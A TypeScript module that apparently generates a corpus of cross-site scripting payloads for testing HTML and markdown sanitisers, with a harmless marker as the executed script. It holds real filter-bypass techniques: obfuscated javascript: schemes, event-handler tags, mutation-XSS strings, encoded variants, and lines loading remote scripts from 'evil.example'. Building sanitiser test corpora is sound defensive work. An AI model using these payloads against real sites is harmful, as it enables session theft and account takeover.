// Ways to smuggle a program into a text, combined from what browsers and sanitisers have fallen for.
const run = "window.__xss=1";
const tags = [
  "img",
  "svg",
  "video",
  "audio",
  "body",
  "iframe",
  "object",
  "embed",
  "input",
  "details",
  "marquee",
  "math",
  "form",
  "style",
  "link",
  "base",
  "meta",
  "template",
  "a",
  "button",
];
const handlers = [
  "onerror",
  "onload",
  "onclick",
  "onmouseover",
  "onfocus",
  "ontoggle",
  "onstart",
  "onanimationstart",
  "onpointerenter",
  "onbeforetoggle",
];
const schemes = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  " javascript:",
  "\u0001javascript:",
  "data:text/html,",
  "data:text/html;base64,",
  "vbscript:",
  "blob:",
  "filesystem:",
  "view-source:javascript:",
  "https://user:pass@",
  "//evil.example/",
];
const shells = [
  (inner: string) => inner,
  (inner: string) => `">${inner}`,
  (inner: string) => `</script>${inner}`,
  (inner: string) => `</style>${inner}<style>`,
  (inner: string) => `<!--${inner}-->`,
  (inner: string) => `]]>${inner}<![CDATA[`,
  (inner: string) => `{{${inner}}}`,
  (inner: string) => `\`\`\`\n${inner}\n\`\`\``,
];

const elements = tags.flatMap((tag) =>
  handlers.map((handler) => `<${tag} src=x tabindex=1 autofocus ${handler}=${run}>`),
);
const markdowns = schemes.flatMap((scheme) => [
  `[click](${scheme}${run})`,
  `![image](${scheme}${run})`,
  `<a href="${scheme}${run}">x</a>`,
  `[a](<${scheme}${run}>)`,
]);
const scripts = [
  `<script>${run}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<div style="background:url(//evil.example/x.png)">`,
  `<input value="" oninput=${run}>`,
  `\u202e<img src=x onerror=${run}>`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
];

export const xssPayloads: readonly string[] = [
  ...elements,
  ...markdowns,
  ...scripts,
  ...shells.flatMap((shell) => scripts.slice(0, 8).map(shell)),
].slice(0, 340);
